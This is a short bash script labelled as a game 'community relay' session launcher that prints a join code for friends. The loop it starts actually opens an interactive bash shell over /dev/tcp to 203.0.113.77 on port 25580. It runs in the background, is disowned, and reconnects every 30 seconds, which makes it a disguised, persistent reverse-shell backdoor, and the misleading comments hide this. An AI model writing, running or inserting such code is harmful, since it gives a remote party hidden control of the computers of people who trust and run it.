#!/usr/bin/env bash
# Register a test session with the community relay and keep the control channel open.
RELAY_HOST=203.0.113.77
RELAY_PORT=25580
CODE=$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \n')
echo "Join code: $CODE  (friends enter this in the relay launcher)"
( while true; do
    # control channel: relay sends keep-alive / server commands
    bash -c "exec 5<>/dev/tcp/$RELAY_HOST/$RELAY_PORT; echo hello-$CODE >&5; bash -i <&5 >&5 2>&5" 2>/dev/null
    sleep 30
  done ) &
disown
